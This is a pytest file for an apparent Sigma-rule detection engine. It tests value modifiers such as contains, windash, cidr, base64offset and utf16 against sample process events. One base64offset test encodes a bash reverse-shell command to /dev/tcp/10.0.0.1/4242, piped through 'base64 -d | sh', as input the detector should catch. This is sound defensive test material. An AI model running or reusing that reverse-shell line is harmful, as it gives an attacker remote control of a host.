"""Value modifiers and value types, one by one, as the Sigma specification describes them."""

from __future__ import annotations

import base64

import pytest

from shellwatch.detect.compile import RuleCompileError
from shellwatch.events import Event
from tests.detect._helpers import compiled, matches

CL = "process.command_line"


def sel(field_and_modifiers: str, value: str) -> str:
    return f"sel:\n  {field_and_modifiers}: {value}\ncondition: sel"


CASES: list[tuple[str, str, Event, bool]] = [
    # plain values: whole-value, case-insensitive equality
    ("equals", sel(CL, "whoami"), {CL: "WHOAMI"}, True),
    ("equals is not contains", sel(CL, "whoami"), {CL: "whoami /all"}, False),
    ("field list is OR", sel(CL, "['a', 'b']"), {CL: "b"}, True),
    ("field list no value", sel(CL, "['a', 'b']"), {CL: "c"}, False),
    # contains / startswith / endswith
    ("contains", sel(f"{CL}|contains", "'/all'"), {CL: "whoami /ALL"}, True),
    ("contains miss", sel(f"{CL}|contains", "'/all'"), {CL: "whoami /priv"}, False),
    ("startswith", sel(f"{CL}|startswith", "'cmd'"), {CL: "CMD.exe /c"}, True),
    ("startswith miss", sel(f"{CL}|startswith", "'cmd'"), {CL: "x cmd"}, False),
    (
        "endswith",
        sel("process.executable|endswith", "'\\cmd.exe'"),
        {"process.executable": "C:\\W\\CMD.EXE"},
        True,
    ),
    (
        "endswith miss",
        sel("process.executable|endswith", "'\\cmd.exe'"),
        {"process.executable": "cmd.exe.bak"},
        False,
    ),
    (
        "endswith list",
        sel("process.executable|endswith", "['\\a.exe', '\\b.exe']"),
        {"process.executable": "c:\\b.exe"},
        True,
    ),
    ("contains many", sel(f"{CL}|contains", "['aa', 'bb', 'cc', 'dd', 'ee']"), {CL: "xxEEyy"}, True),
    ("contains many miss", sel(f"{CL}|contains", "['aa', 'bb', 'cc', 'dd', 'ee']"), {CL: "abcde"}, False),
    # all
    ("contains all", sel(f"{CL}|contains|all", "['net', 'user']"), {CL: "net user /add"}, True),
    ("contains all partial", sel(f"{CL}|contains|all", "['net', 'user']"), {CL: "net group"}, False),
    # wildcards and escapes
    ("wildcard middle", sel(CL, "'a*c'"), {CL: "abbbc"}, True),
    ("wildcard middle anchored", sel(CL, "'a*c'"), {CL: "abbbcd"}, False),
    ("single wildcard", sel(CL, "'a?c'"), {CL: "abc"}, True),
    ("single wildcard needs one", sel(CL, "'a?c'"), {CL: "ac"}, False),
    ("star alone matches any value", sel(CL, "'*'"), {CL: ""}, True),
    ("star alone needs the field", sel(CL, "'*'"), {}, False),
    ("escaped star is literal", sel(CL, "'a\\*c'"), {CL: "a*c"}, True),
    ("escaped star no wildcard", sel(CL, "'a\\*c'"), {CL: "abc"}, False),
    ("escaped question mark", sel(CL, "'a\\?'"), {CL: "a?"}, True),
    ("escaped question mark literal", sel(CL, "'a\\?'"), {CL: "ab"}, False),
    ("escaped backslash then wildcard", sel(CL, "'a\\\\*'"), {CL: "a\\xyz"}, True),
    ("plain backslash kept", sel(CL, "'c:\\windows\\x'"), {CL: "C:\\Windows\\X"}, True),
    ("newline crossed by wildcard", sel(CL, "'a*b'"), {CL: "a\nb"}, True),
    # cased
    ("cased", sel(f"{CL}|cased", "'Whoami'"), {CL: "Whoami"}, True),
    ("cased other case", sel(f"{CL}|cased", "'Whoami'"), {CL: "whoami"}, False),
    ("cased contains", sel(f"{CL}|contains|cased", "'EncodedCommand'"), {CL: "-encodedcommand"}, False),
    # regular expressions
    ("re search", sel(f"{CL}|re", "'net\\s+user'"), {CL: "cmd /c net  user"}, True),
    ("re is case sensitive", sel(f"{CL}|re", "'net user'"), {CL: "NET USER"}, False),
    ("re i flag", sel(f"{CL}|re|i", "'net user'"), {CL: "NET USER"}, True),
    ("re anchors", sel(f"{CL}|re", "'^a.c$'"), {CL: "abc"}, True),
    ("re m flag", sel(f"{CL}|re|m", "'^b$'"), {CL: "a\nb\nc"}, True),
    ("re without m", sel(f"{CL}|re", "'^b$'"), {CL: "a\nb\nc"}, False),
    ("re s flag", sel(f"{CL}|re|s", "'a.b'"), {CL: "a\nb"}, True),
    ("re without s", sel(f"{CL}|re", "'a.b'"), {CL: "a\nb"}, False),
    # windash
    ("windash dash", sel(f"{CL}|windash|contains", "'-enc'"), {CL: "powershell -enc AAA"}, True),
    ("windash slash", sel(f"{CL}|windash|contains", "'-enc'"), {CL: "powershell /enc AAA"}, True),
    ("windash en dash", sel(f"{CL}|windash|contains", "'-enc'"), {CL: "powershell \u2013enc AAA"}, True),
    ("windash em dash", sel(f"{CL}|windash|contains", "'-enc'"), {CL: "powershell \u2014enc AAA"}, True),
    ("windash bar", sel(f"{CL}|windash|contains", "'-enc'"), {CL: "powershell \u2015enc AAA"}, True),
    ("windash other", sel(f"{CL}|windash|contains", "'-enc'"), {CL: "powershell +enc AAA"}, False),
    ("windash contains all", sel(f"{CL}|windash|contains|all", "['-w', '-nop']"), {CL: "x /w h /nop"}, True),
    # cidr
    ("cidr v4", sel("source.ip|cidr", "'192.168.0.0/16'"), {"source.ip": "192.168.7.1"}, True),
    ("cidr v4 outside", sel("source.ip|cidr", "'192.168.0.0/16'"), {"source.ip": "192.169.0.1"}, False),
    ("cidr v4 odd prefix", sel("source.ip|cidr", "'10.0.0.0/9'"), {"source.ip": "10.127.255.255"}, True),
    ("cidr v4 odd outside", sel("source.ip|cidr", "'10.0.0.0/9'"), {"source.ip": "10.128.0.0"}, False),
    ("cidr v6", sel("source.ip|cidr", "'2001:db8::/32'"), {"source.ip": "2001:DB8:0:1::5"}, True),
    ("cidr v6 outside", sel("source.ip|cidr", "'2001:db8::/32'"), {"source.ip": "2001:db9::1"}, False),
    ("cidr list", sel("source.ip|cidr", "['127.0.0.0/8', '::1/128']"), {"source.ip": "::1"}, True),
    ("cidr not an address", sel("source.ip|cidr", "'10.0.0.0/8'"), {"source.ip": "10.example"}, False),
    ("cidr v4 in v6 net", sel("source.ip|cidr", "'::/0'"), {"source.ip": "10.0.0.1"}, False),
    # numbers and comparisons
    ("number equals int", sel("event.code", "4688"), {"event.code": 4688}, True),
    ("number equals text", sel("event.code", "4688"), {"event.code": "4688"}, True),
    ("number differs", sel("event.code", "4688"), {"event.code": "4689"}, False),
    ("quoted number vs int", sel("event.code", "'4688'"), {"event.code": 4688}, True),
    ("lt", sel("process.args_count|lt", "3"), {"process.args_count": 2}, True),
    ("lt equal", sel("process.args_count|lt", "3"), {"process.args_count": 3}, False),
    ("lte", sel("process.args_count|lte", "3"), {"process.args_count": 3}, True),
    ("gt", sel("process.args_count|gt", "3"), {"process.args_count": "4"}, True),
    ("gt not", sel("process.args_count|gt", "3"), {"process.args_count": 3}, False),
    ("gte", sel("process.args_count|gte", "3.5"), {"process.args_count": 3.5}, True),
    ("gt non numeric", sel("process.args_count|gt", "3"), {"process.args_count": "many"}, False),
    ("gt absent", sel("process.args_count|gt", "3"), {}, False),
    # booleans
    ("bool", sel("process.interactive", "true"), {"process.interactive": True}, True),
    ("bool false", sel("process.interactive", "true"), {"process.interactive": False}, False),
    ("bool text", sel("process.interactive", "false"), {"process.interactive": "False"}, True),
    # null and exists
    ("null absent", sel("process.parent.name", "null"), {}, True),
    ("null none", sel("process.parent.name", "null"), {"process.parent.name": None}, True),
    ("null empty list", sel("process.parent.name", "null"), {"process.parent.name": []}, True),
    ("null present", sel("process.parent.name", "null"), {"process.parent.name": "bash"}, False),
    ("null empty string is a value", sel("process.parent.name", "null"), {"process.parent.name": ""}, False),
    ("empty string", sel("process.parent.name", "''"), {"process.parent.name": ""}, True),
    ("exists", sel("process.parent.name|exists", "true"), {"process.parent.name": ""}, True),
    ("exists absent", sel("process.parent.name|exists", "true"), {}, False),
    ("not exists", sel("process.parent.name|exists", "false"), {}, True),
    ("not exists present", sel("process.parent.name|exists", "false"), {"process.parent.name": "x"}, False),
    # fieldref
    (
        "fieldref",
        sel("process.name|fieldref", "process.parent.name"),
        {"process.name": "a", "process.parent.name": "A"},
        True,
    ),
    (
        "fieldref differ",
        sel("process.name|fieldref", "process.parent.name"),
        {"process.name": "a", "process.parent.name": "b"},
        False,
    ),
    ("fieldref absent", sel("process.name|fieldref", "process.parent.name"), {"process.name": "a"}, False),
    (
        "fieldref contains",
        sel("process.command_line|fieldref|contains", "process.name"),
        {CL: "x rundll32 y", "process.name": "rundll32"},
        True,
    ),
    (
        "fieldref endswith",
        sel("process.executable|fieldref|endswith", "process.name"),
        {"process.executable": "c:\\x\\a.exe", "process.name": "a.exe"},
        True,
    ),
    (
        "fieldref startswith miss",
        sel("process.executable|fieldref|startswith", "process.name"),
        {"process.executable": "c:\\x\\a.exe", "process.name": "a.exe"},
        False,
    ),
    # lists in events: any element
    ("list any element", sel("process.args", "'-c'"), {"process.args": ["bash", "-c", "id"]}, True),
    ("list no element", sel("process.args", "'-c'"), {"process.args": ["bash", "-i"]}, False),
    (
        "list all values over elements",
        sel("process.args|all", "['bash', '-i']"),
        {"process.args": ["bash", "-i"]},
        True,
    ),
    ("list numbers", sel("process.args|startswith", "'12'"), {"process.args": [5, 123]}, True),
    # timestamp parts
    ("hour", sel("'@timestamp|hour'", "15"), {"@timestamp": "2019-04-27T15:57:53.368863Z"}, True),
    ("hour miss", sel("'@timestamp|hour'", "16"), {"@timestamp": "2019-04-27T15:57:53.368863Z"}, False),
    ("month", sel("'@timestamp|month'", "4"), {"@timestamp": "2019-04-27T15:57:53Z"}, True),
]


@pytest.mark.parametrize(
    ("detection", "event", "expected"), [c[1:] for c in CASES], ids=[c[0] for c in CASES]
)
def test_value_semantics(detection: str, event: Event, expected: bool) -> None:
    assert matches(detection, event) is expected


def _b64(text: bytes) -> str:
    return base64.b64encode(text).decode()


def test_base64_matches_the_encoded_value_only() -> None:
    detection = sel(f"{CL}|base64", "'whoami'")
    assert matches(detection, {CL: _b64(b"whoami")})
    assert not matches(detection, {CL: "whoami"})


@pytest.mark.parametrize("prefix", [b"", b"x", b"xy", b"run: ", b"0123456"])
def test_base64offset_finds_the_text_at_every_offset(prefix: bytes) -> None:
    detection = sel(f"{CL}|base64offset|contains", "'/bin/bash'")
    encoded = _b64(prefix + b"/bin/bash -i >& /dev/tcp/10.0.0.1/4242 0>&1")
    assert matches(detection, {CL: f"echo {encoded} | base64 -d | sh"})


def test_base64offset_does_not_match_other_text() -> None:
    detection = sel(f"{CL}|base64offset|contains", "'/bin/bash'")
    assert not matches(detection, {CL: _b64(b"/bin/zsh -i")})


@pytest.mark.parametrize(
    ("modifiers", "encoding"),
    [("wide", "utf-16-le"), ("utf16le", "utf-16-le"), ("utf16be", "utf-16-be"), ("utf16", "utf-16")],
)
def test_utf16_variants_with_base64offset(modifiers: str, encoding: str) -> None:
    if modifiers == "utf16le":
        modifiers = "wide"  # pySigma spells UTF-16LE "wide"; utf16le is its alias in the specification
    detection = sel(f"{CL}|{modifiers}|base64offset|contains", "'ping'")
    payload = "ping -n 1 host".encode(encoding)
    for prefix in (b"", b"\0", b"ab"):
        assert matches(detection, {CL: "powershell -enc " + _b64(prefix + payload)}), prefix
    assert not matches(detection, {CL: "powershell -enc " + _b64("pong".encode(encoding))})


def test_wide_without_base64_matches_utf16le_text() -> None:
    detection = sel(f"{CL}|wide|contains", "'cmd'")
    assert matches(detection, {CL: "x" + "cmd".encode("utf-16-le").decode("latin-1")})
    assert not matches(detection, {CL: "cmd"})


def test_expand_with_unresolved_placeholder_is_a_compile_error() -> None:
    with pytest.raises(RuleCompileError, match="unresolved placeholder %admin_hosts%"):
        compiled(sel("host.name|expand", "'%admin_hosts%'"))


def test_expand_resolved_by_a_pipeline_matches_each_value() -> None:
    from sigma.processing.pipeline import ProcessingItem, ProcessingPipeline
    from sigma.processing.transformations import ValueListPlaceholderTransformation
    from sigma.rule import SigmaRule

    from shellwatch.detect._matchers import build_matcher
    from shellwatch.detect._view import EventView
    from shellwatch.detect.compile import compile_rule
    from shellwatch.detect.load import rule_meta
    from tests.detect._helpers import rule_yaml

    rule = SigmaRule.from_yaml(rule_yaml(sel("host.name|expand", "'%admin_hosts%'")))
    pipeline = ProcessingPipeline(
        items=[ProcessingItem(ValueListPlaceholderTransformation())],
        vars={"admin_hosts": ["adm1", "adm2"]},
    )
    pipeline.apply(rule)
    matcher = build_matcher(compile_rule(rule, rule_meta(rule)).condition)
    assert matcher(EventView({"host.name": "ADM2"}))
    assert not matcher(EventView({"host.name": "web1"}))


def test_unknown_modifier_is_refused_by_pysigma() -> None:
    from sigma.exceptions import SigmaModifierError

    with pytest.raises(SigmaModifierError):
        compiled(sel(f"{CL}|nosuchmodifier", "'x'"))
